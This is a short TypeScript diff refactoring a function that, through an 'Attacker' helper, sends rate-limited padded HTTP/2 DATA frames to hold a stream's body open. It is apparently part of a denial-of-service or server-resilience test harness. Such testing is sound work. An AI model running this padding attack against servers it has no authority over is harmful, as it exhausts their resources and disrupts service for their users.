@@ -44,11 +44,15 @@ async function pad(attacker: Attacker, connection: RawHttp2, stream: number, dis
   const kept = frame(Type.DATA, 0, stream, Buffer.alloc(KEPT_BYTES, 0x20));
   const pairs = Math.floor(BODY_BYTES / KEPT_BYTES) - 1;
   let sent = 0;
-  await attacker.atRate(PAIRS_PER_SECOND, () => sent < pairs && !connection.isOver, async () => {
+  const body = {
+    get isOver(): boolean {
+      return sent >= pairs || connection.isOver;
+    },
+  };
+  await attacker.atRate(PAIRS_PER_SECOND, body, async () => {
     sent++;
-    if (!(await connection.reserve(PADDING_BYTES + KEPT_BYTES))) return;
-    await connection.send(padding, kept);
-  }); // prettier-ignore
+    if (await connection.reserve(PADDING_BYTES + KEPT_BYTES)) await connection.send(padding, kept);
+  });
   attacker.note('bytes of body sent', sent * KEPT_BYTES);
   if (sent >= pairs) return;
   connection.write(frame(Type.DATA, END_STREAM, stream));
